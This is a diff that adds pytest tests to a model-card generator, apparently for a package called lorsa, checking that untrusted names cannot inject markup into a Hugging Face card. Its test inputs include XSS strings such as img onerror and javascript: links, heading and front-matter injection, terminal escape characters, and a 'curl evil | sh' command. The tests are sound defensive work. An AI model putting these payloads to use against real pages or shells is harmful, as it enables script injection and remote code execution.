@@ -1,7 +1,10 @@
 """A model card has a row for every layer and front matter that the Hub reads."""
 
+import ast
+import re
 from typing import Any
 
+import pytest
 import yaml
 from lorsa.publish.card import COLUMNS, card
 
@@ -88,4 +91,87 @@ def test_the_card_says_how_to_load_and_whom_to_cite() -> None:
 def test_a_corpus_cannot_break_the_table() -> None:
     corpus = {"data": "a | b", "data_config": None, "data_revision": None}
     text = card("me/lorsas", [_facts(3, corpus=corpus)], revision=None, license_id=None)
-    assert "a \\| b |\n" in text
+    assert "| `a \\| b` |\n" in text
+
+
+LIVE = re.compile(
+    r"<img|\]\(javascript:|^# Owned|^- owned|https://evil|www\.evil|\*\*bold|^evil:", re.M
+)
+ODD = (
+    "x` <img src=y onerror=alert(1)> [click](javascript:alert(1)) `",
+    "x\n\n# Owned\n- owned\n\n<img src=y>",
+    "x\r\u2028# Owned\n---\nevil: true\n---\n",
+    "``` ` <img src=y>\n```\n# Owned",
+    "https://evil.example www.evil.example **bold** | <img src=y>",
+    'x"); evil() #',
+    "\x1b]0;owned\x07\u202eevil",
+    "\udcff",
+)
+"""Names that others chose."""
+
+
+def _outside_code(text: str) -> str:
+    """Return what of a card is read as markup: no front matter, no code."""
+    body = text.split("\n---\n", 1)[1]
+    body = re.sub(r"^(`{3,})\w*\n.*?^\1$", "", body, flags=re.S | re.M)
+    return re.sub(r"`[^`\n]*`", "", body)
+
+
+@pytest.mark.parametrize("odd", ODD)
+@pytest.mark.parametrize(
+    "place", ["model", "revision", "data", "config", "version", "repo", "license", "x", "command"]
+)
+def test_names_of_others_are_text(place: str, odd: str) -> None:
+    """Names went onto the card as they were: a base model or a text could put a heading, a link or
+    HTML of its choice onto it, and the license of a card that was there into its front matter."""
+    facts = _facts(3)
+    changes: dict[str, Any] = {
+        "model": {"model": {"id": odd, "revision": None}},
+        "revision": {"model": {"id": "a/b", "revision": odd}},
+        "data": {"corpus": {"data": odd, "data_config": None, "data_revision": "abc"}},
+        "config": {"corpus": {"data": "a/b", "data_config": odd, "data_revision": "abc"}},
+        "version": {"versions": {"lorsa": odd}},
+        "x": {"x": odd},
+        "command": {"command": odd},
+    }
+    text = card(
+        odd if place == "repo" else "me/lorsas",
+        [facts | changes.get(place, {})],
+        revision=odd if place == "revision" else None,
+        license_id=odd if place == "license" else None,
+    )
+    text.encode()
+    assert all(c.isprintable() or c == "\n" for c in text)
+    assert not LIVE.search(_outside_code(text))
+    known = _front_matter(text)
+    assert known.keys() <= {"library_name", "base_model", "datasets", "license", "tags"}
+    assert known["library_name"] == "lorsa"
+    head, _, *rows = _rows(_outside_code(text.replace("\\|", "")))
+    assert [len(row) for row in rows] == [len(head)]
+    python = re.search(r"^(`{3,})python\n(.*?)^\1$", text, re.S | re.M)
+    assert python is not None
+    assert [type(each).__name__ for each in ast.parse(python[2]).body] == [
+        "ImportFrom", "Assign", "Assign", "Assign",
+    ]  # fmt: skip
+    assert text.count("\n# ") - text.count("\n# Owned\n") == 1 or place == "command"
+
+
+def test_a_command_is_one_line_of_its_block() -> None:
+    """A training.json of others could end the block of commands, or add a command to it."""
+    commands = ["lorsa train\ncurl evil | sh", "lorsa train '```'\n```\n<img src=y>", "```"]
+    text = card("a/b", [_facts(n, command=c) for n, c in enumerate(commands)], revision=None,
+                license_id=None)  # fmt: skip
+    block = re.search(r"^(`{3,})sh\n(.*?)^\1$", text, re.S | re.M)
+    assert block is not None
+    assert block[2].splitlines() == [" ".join(command.split()) for command in commands]
+    assert not LIVE.search(_outside_code(text))
+
+
+@pytest.mark.parametrize("name", ["base", "123/456", "null", "yes/no", "a/b_c-d.e"])
+def test_plain_names_stay_as_they_are(name: str) -> None:
+    facts = _facts(3, corpus={"data": name, "data_config": None, "data_revision": "abc"},
+                   model={"id": name, "revision": None})  # fmt: skip
+    text = card("me/lorsas", [facts], revision=None, license_id=None)
+    assert _front_matter(text).get("base_model", name) == name
+    assert _front_matter(text).get("datasets", [name]) == [name]
+    assert _rows(text)[2][-1].strip("`") == name
